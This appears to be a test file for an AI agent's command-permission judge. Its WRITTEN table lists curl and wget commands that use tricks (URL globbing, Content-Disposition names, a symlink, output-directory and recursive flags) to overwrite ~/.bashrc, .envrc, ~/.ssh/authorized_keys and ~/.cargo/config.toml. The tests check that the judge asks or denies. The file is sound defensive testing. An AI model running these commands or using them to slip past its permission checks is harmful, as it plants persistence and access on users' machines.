"""What a command writes where an address or a server says, and not its words.

Each trick is run for real against a server of the test; then the judge is asked.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from maverick_tui.agent.permissions.judge import Judge
from tests.agent.permissions.deciding import bash
from tests.attacks.sandbox import Sandbox

WRITTEN: dict[str, tuple[str, str]] = {
    "numbered": ("curl -s '{U}/.bas[h-h]rc' -o '{H}/.bas#1rc'", "~/.bashrc"),
    "numbered-joined": ("curl -s '{U}/.bas[h-h]rc' -so{H}/.bas#1rc", "~/.bashrc"),
    "numbered-long": ("curl -s '{U}/.bas[h-h]rc' --output '{H}/.bas#1rc'", "~/.bashrc"),
    "header": ("curl -sOJ {U}/x", ".envrc"),
    "header-long": ("curl -s -O --remote-header-name {U}/x", ".envrc"),
    "configured": ("curl -s -K told", ".envrc"),
    "through-link": ("curl -sO {U}/d.md", "~/.ssh/authorized_keys"),
    "through-link-long": ("curl -s --remote-name {U}/d.md", "~/.ssh/authorized_keys"),
    "through-link-all": ("curl -s --remote-name-all {U}/d.md", "~/.ssh/authorized_keys"),
    "folder": ("curl -s --output-dir {H}/.cargo -O {U}/config.toml", "~/.cargo/config.toml"),
    "wget-folder": ("wget -q -P {H}/.cargo {U}/config.toml", "~/.cargo/config.toml"),
    "wget-folder-joined": ("wget -q -P{H}/.cargo {U}/config.toml", "~/.cargo/config.toml"),
    "wget-encoded": ("wget -q {U}/%2Eenvr%63", ".envrc"),
    "wget-all": ("wget -q -nH -r {U}/", ".envrc"),
    "wget-bundled": ("wget -qrnH {U}/", ".envrc"),
    "wget-long": ("wget -q -nH --recursive {U}/", ".envrc"),
    "wget-header": ("wget -q --content-disposition {U}/x -P docs", "docs/.envrc"),
    "wget-listed": ("wget -q -i list", ".envrc"),
}

ORDINARY = (
    "curl -sSL {U}/a", "curl -O {U}/a.tgz", "curl -fsSLo docs/a {U}/a", "curl -s -d 'see #12' {U}/a",
    "curl -s -H 'X: #1' {U}/a", "curl -s '{U}/a#1'", "curl --output-dir docs -O {U}/a.csv", "wget {U}/a.tgz",
    "wget -nc -nv -q {U}/a.tgz", "wget -np -O a.tgz {U}/a.tgz", "wget -P docs {U}/a.tgz", "wget -c {U}/a.iso",
)  # fmt: skip


class Pages(SimpleHTTPRequestHandler):
    """Pages that say how a file is to be called."""

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""

    def end_headers(self) -> None:
        if self.path == "/x":
            self.send_header("Content-Disposition", 'attachment; filename=".envrc"')
        super().end_headers()


@pytest.fixture
def address(sandbox: Sandbox, tmp_path: Path) -> Iterator[str]:
    """Of a server, from which a project with a link fetches."""
    pages = tmp_path / "pages"
    pages.mkdir()
    for name in (".bashrc", "x", ".envrc", "d.md", "config.toml"):
        (pages / name).write_text("new")
    (pages / "index.html").write_text('<a href=".envrc">x</a>')
    (sandbox.home / ".cargo").mkdir()
    (sandbox.project / "d.md").symlink_to(sandbox.home / ".ssh/authorized_keys")
    server = ThreadingHTTPServer(("127.0.0.1", 0), lambda *given: Pages(*given, directory=str(pages)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_port}"
    (sandbox.project / "list").write_text(f"{url}/.envrc\n")
    (sandbox.project / "told").write_text(f'url = "{url}/.envrc"\noutput = ".envrc"\n')
    yield url
    server.shutdown()
    thread.join()
    server.server_close()


def test_each_of_them_does_what_it_is_feared_for(sandbox: Sandbox, address: str) -> None:
    blunt = []
    for name, (command, place) in WRITTEN.items():
        reached = sandbox.home / place[2:] if place.startswith("~") else sandbox.project / place
        reached.unlink(missing_ok=True)
        said = command.format(U=address, H=sandbox.home)
        given = os.environ | {"PATH": os.defpath}
        subprocess.run(["bash", "-c", said], cwd=sandbox.project, env=given, capture_output=True, check=False)
        is_there = shutil.which(command.split()[0], path=os.defpath)
        blunt += [name] if is_there and not (reached.exists() and reached.read_text() == "new") else []
        reached.unlink(missing_ok=True)
    assert blunt == []


@pytest.mark.parametrize("person", [True, False])
def test_it_asks_each_time_whatever_the_rules_say(person: bool, sandbox: Sandbox, address: str) -> None:
    judge = Judge(["Bash(curl:*)", "Bash(wget:*)"], sandbox.project, person=person)
    said = {name: command.format(U=address, H=sandbox.home) for name, (command, _) in WRITTEN.items()}
    judged = {name: judge.judge("Bash", bash(command)) for name, command in said.items()}
    assert {name: what for name, what in judged.items() if what[0] != ("ask" if person else "deny")} == {}
    assert not person or all(what.is_asked_each_time for what in judged.values())


def test_ordinary_downloads_run(sandbox: Sandbox, address: str) -> None:
    judge = Judge(["Bash(curl:*)", "Bash(wget:*)"], sandbox.project, person=False)
    said = [command.format(U=address) for command in ORDINARY]
    assert {one: why for one in said if (why := judge.judge("Bash", bash(one)).reason)} == {}
